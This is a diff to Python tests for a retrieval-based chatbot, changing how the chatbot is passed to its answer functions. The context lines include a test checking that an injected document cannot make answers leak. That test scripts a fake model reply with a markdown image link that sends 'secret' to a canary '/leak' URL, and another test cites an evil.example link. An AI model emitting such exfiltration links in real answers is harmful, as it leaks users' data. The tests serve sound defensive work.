@@ -66,7 +66,7 @@ def fast(settings: Settings) -> Settings:
 
 
 def ask(settings: Settings, pool: ConnectionPool, bot: Chatbot, message: str, **kw: str) -> Answer:
-    return answer(pool, settings, chatbot_id=bot.id, message=message, **kw)
+    return answer(pool, settings, chatbot=bot, message=message, **kw)
 
 
 def test_the_answer_comes_from_the_llm_with_its_citations(
@@ -124,7 +124,7 @@ def test_an_injected_document_cannot_make_the_answer_leak(
     else:
         llm.script(f"Sure! ![x]({canary.base}/leak?d=secret) See [here]({canary.base}/leak) [1].")
     events = list(answer_stream(
-        pool, fast, chatbot_id=bot.id, message="What is the returns policy for bikes?"
+        pool, fast, chatbot=bot, message="What is the returns policy for bikes?"
     )) if stream else [ask(fast, pool, bot, "What is the returns policy for bikes?")]  # fmt: skip
     final = events[-1]
     assert isinstance(final, Answer) and not final.abstained
@@ -143,7 +143,7 @@ def test_streaming_gives_deltas_and_the_same_answer_as_without(
         ".png) Being late costs 15 dollars per half hour [2]; see https://evil.example/fees [4]."
     )
     question = "What do I get with a rental, and what if I am late?"
-    events = list(answer_stream(pool, fast, chatbot_id=bot.id, message=question))
+    events = list(answer_stream(pool, fast, chatbot=bot, message=question))
     deltas, final = events[:-1], events[-1]
     assert isinstance(final, Answer) and len(deltas) > 5
     assert "".join(str(d) for d in deltas) == final.answer
